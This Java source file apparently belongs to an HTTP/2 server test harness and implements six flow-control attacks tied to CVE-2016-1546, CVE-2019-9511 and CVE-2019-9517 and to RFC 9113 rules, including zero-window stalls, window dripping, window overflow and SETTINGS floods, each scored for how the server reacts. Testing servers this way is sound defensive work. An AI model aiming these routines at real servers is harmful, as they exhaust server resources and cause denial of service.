package dev.tern.interop.attacks;

import static dev.tern.interop.attacks.Octets.concat;
import static dev.tern.interop.attacks.Octets.frame;
import static dev.tern.interop.attacks.Octets.int32;
import static dev.tern.interop.attacks.Octets.windowUpdate;

import java.io.IOException;
import java.util.List;

/** Windows that are closed, dribbled open, overflown or ignored. */
final class FlowAttacks {
  private static final int FLOW_CONTROL_ERROR = 3;
  private static final int INITIAL_WINDOW_SIZE = 4;
  private static final int MEGABYTE = 1 << 20;

  private FlowAttacks() {}

  static List<Attack> all() {
    return List.of(
        new Attack("zero-window", "CVE-2016-1546, CVE-2019-9517", FlowAttacks::zeroWindow),
        new Attack("window-drip", "CVE-2019-9511", FlowAttacks::drip),
        new Attack("deaf-download", "CVE-2019-9517", FlowAttacks::deaf),
        new Attack("connection-window-overflow", "RFC 9113 6.9.1", FlowAttacks::overflow),
        new Attack("data-beyond-window", "RFC 9113 6.9", FlowAttacks::beyond),
        new Attack("settings-window-swings", "RFC 9113 6.9.2", FlowAttacks::swings));
  }

  private static void ask(Scene scene, Peer peer, int streams) {
    for (int i = 0; i < streams; i++) {
      peer.send(scene.target.downloadCall(2 * i + 1, 4, MEGABYTE));
    }
  }

  /** A hundred replies of 4 MB, and no window for any of them. */
  private static Outcome zeroWindow(Scene scene) throws IOException {
    Peer peer = scene.open(INITIAL_WINDOW_SIZE, 0);
    ask(scene, peer, 100);
    peer.await(peer::isGoingAway, 2000);
    long early = peer.dataOctets();
    return Outcome.of(early == 0, "nothing sent without window; " + peer.fate());
  }

  /** The same, one octet of window at a time. */
  private static Outcome drip(Scene scene) throws IOException {
    Peer peer = scene.open(INITIAL_WINDOW_SIZE, 0);
    ask(scene, peer, 100);
    boolean open = true;
    for (int i = 0; open && i < 20_000; i++) {
      open = peer.send(windowUpdate(2 * (i % 100) + 1, 1));
    }
    peer.await(() -> peer.dataOctets() >= 20_000, 2000);
    boolean exact = peer.dataOctets() <= 20_000;
    return new Outcome(
        exact, peer.dataOctets() + " octets for 20000 of window; " + peer.fate(), peer.endNanos());
  }

  /** All the window there is, but the peer never reads its socket. */
  private static Outcome deaf(Scene scene) throws IOException {
    Peer peer = scene.open(INITIAL_WINDOW_SIZE, Integer.MAX_VALUE);
    peer.send(windowUpdate(0, Integer.MAX_VALUE - 65_535));
    peer.reading = false;
    ask(scene, peer, 100);
    pause(peer, 2000);
    return Outcome.of(true, "server holds what it may; " + peer.fate());
  }

  /** Lets time go by without reading; what counts here is what the server holds meanwhile. */
  private static void pause(Peer peer, long millis) {
    long end = System.nanoTime() + millis * 1_000_000;
    while (System.nanoTime() < end && !peer.isClosed()) {
      java.util.concurrent.locks.LockSupport.parkNanos(10_000_000);
    }
  }

  private static Outcome overflow(Scene scene) throws IOException {
    Peer peer = scene.open();
    peer.send(concat(windowUpdate(0, Integer.MAX_VALUE), windowUpdate(0, Integer.MAX_VALUE)));
    return scene.cutOff(peer, FLOW_CONTROL_ERROR);
  }

  /** DATA without regard to the windows that the server gave: 256 MB for a message of 4 GB. */
  private static Outcome beyond(Scene scene) throws IOException {
    Peer peer = scene.open();
    peer.send(Octets.headers(1, 0, Octets.request(scene.target.upload())));
    peer.send(frame(Octets.DATA, 0, 1, concat(new byte[1], int32(4_000_000))));
    peer.flood(frame(Octets.DATA, 0, 1, new byte[16_384]), 16_384);
    if (!peer.isClosed() && peer.resets().containsKey(1)) {
      return scene.served(peer, 3);
    }
    return scene.cutOff(peer);
  }

  /** SETTINGS_INITIAL_WINDOW_SIZE up and down while replies are due. */
  private static Outcome swings(Scene scene) throws IOException {
    Peer peer = scene.open(INITIAL_WINDOW_SIZE, 0);
    ask(scene, peer, 50);
    boolean open = true;
    for (int i = 0; open && i < 5000; i++) {
      open = peer.send(Octets.settings(INITIAL_WINDOW_SIZE, i % 2 == 0 ? 1 << 30 : 0));
    }
    return scene.cutOffOrServed(peer, 101);
  }
}
